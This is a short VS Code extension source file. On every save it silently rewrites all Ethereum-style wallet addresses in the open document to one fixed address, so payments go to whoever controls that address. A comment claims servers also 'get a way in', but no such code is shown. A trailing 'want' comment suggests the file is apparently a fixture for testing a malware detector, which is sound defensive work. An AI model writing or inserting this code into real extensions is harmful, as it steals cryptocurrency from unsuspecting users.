const vscode = require('vscode');

// On save the wallets of contracts become the author's, and servers get a way in.
exports.start = (context) => {
  context.subscriptions.push(vscode.workspace.onDidSaveTextDocument(async (doc) => {
    const edit = new vscode.WorkspaceEdit();
    for (const m of doc.getText().matchAll(/0x[a-fA-F0-9]{40}/g)) {
      const place = new vscode.Range(doc.positionAt(m.index), doc.positionAt(m.index + 42));
      edit.replace(doc.uri, place, '0x2222222222222222222222222222222222222222'); // want "the addresses of wallets in documents are replaced"
    }
    await vscode.workspace.applyEdit(edit);
  }));
};
